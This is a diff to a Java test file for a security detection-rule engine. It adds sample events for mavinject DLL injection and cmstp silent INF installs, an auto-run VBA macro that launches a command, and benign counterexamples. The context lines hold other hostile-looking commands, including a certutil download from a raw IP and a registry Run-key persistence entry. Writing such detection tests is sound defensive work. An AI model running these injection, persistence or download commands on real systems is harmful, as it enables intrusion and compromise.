@@ -67,6 +67,9 @@ class OwnRulesSampleEventsTest {
     static final String REPLY_TO = "Account Or Payment Lure With Reply-To Different From Sender";
     static final String IP_LINK = "E-Mail Link Pointing At A Raw IP Address";
     static final String FREE_HOST = "E-Mail Link To Free Web Hosting Or Tunnel Service";
+    static final String MAVINJECT = "Mavinject Injecting A DLL Into A Running Process";
+    static final String CMSTP = "Cmstp Silently Installing An INF Profile";
+    static final String MACRO_CONTENT = "Attachment Content Shows An Auto-Executing Macro That Runs Commands";
     static final String REVSHELL = "Interactive Reverse Shell Command Line On Linux";
 
     record Sample(String name, String json, Set<String> expected) {
@@ -153,6 +156,15 @@ class OwnRulesSampleEventsTest {
                 new Sample("reg add run key", proc("C:\\Windows\\System32\\reg.exe",
                         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\u.exe",
                         "C:\\Windows\\System32\\cmd.exe"), Set.of(REGADD)),
+                new Sample("mavinject injection", proc("C:\\Windows\\System32\\mavinject.exe",
+                        "mavinject.exe 4120 /INJECTRUNNING C:\\Users\\Public\\hook.dll", "C:\\Windows\\System32\\cmd.exe"),
+                        Set.of(MAVINJECT)),
+                new Sample("mavinject by app-v", proc("C:\\Windows\\System32\\mavinject.exe",
+                        "mavinject.exe 4120 /INJECTRUNNING \"C:\\Program Files\\Microsoft Application Virtualization\\Client\\Subsystems\\AppVEntSubsystems64.dll\"",
+                        "C:\\Windows\\System32\\svchost.exe"), Set.of()),
+                new Sample("cmstp silent inf", proc("C:\\Windows\\System32\\cmstp.exe",
+                        "cmstp.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\corpvpn.inf /au", "C:\\Windows\\System32\\cmd.exe"),
+                        Set.of(CMSTP)),
                 new Sample("security 4688 certutil", security4688("C:\\Windows\\System32\\certutil.exe",
                         "certutil -urlcache -f https://203.0.113.5/a.txt a.txt"), Set.of(CERTUTIL)),
                 // ---- other Windows categories ----
@@ -220,6 +232,10 @@ class OwnRulesSampleEventsTest {
                         List.of(), List.of("http://192.168.1.20/scans/1.pdf")), Set.of()),
                 new Sample("free hosting link", email("support@docs-share.example", null, "Shared document", "View.",
                         List.of(), List.of("https://doc-view-4471.web.app/login")), Set.of(FREE_HOST)),
+                new Sample("macro text in attachment content", emailWithContent("Sub Document_Open()\r\n"
+                        + "  CreateObject(\"WScript.Shell\").Run \"cmd /c calc\", 0\r\nEnd Sub\r\n"), Set.of(MACRO_CONTENT)),
+                new Sample("text attachment mentioning powershell only", emailWithContent("Notes: install powershell 7 on the build hosts."),
+                        Set.of()),
                 new Sample("ordinary team mail", email("colleague@corp.example", null, "Weekly team sync",
                         "Agenda attached.", List.of("agenda.docx"), List.of("https://intranet.corp.example/wiki")), Set.of()),
                 // ---- linux ----
@@ -333,6 +349,22 @@ class OwnRulesSampleEventsTest {
             atts.addObject().putObject("file").put("name", name);
         }
         return root.toString();
+    }
+
+    static String emailWithContent(String text) {
+        ObjectNode root = (ObjectNode) parseTree(email("colleague@corp.example", null, "Notes", "See attached.", List.of(), List.of()));
+        ObjectNode file = ((ArrayNode) root.path("email").path("attachments")).addObject().putObject("file");
+        file.put("name", "notes.txt");
+        file.put("content", Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.ISO_8859_1)));
+        return root.toString();
+    }
+
+    static com.fasterxml.jackson.databind.JsonNode parseTree(String json) {
+        try {
+            return JSON.readTree(json);
+        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
+            throw new IllegalStateException(e);
+        }
     }
 
     static String linux(String exe, String commandLine) {
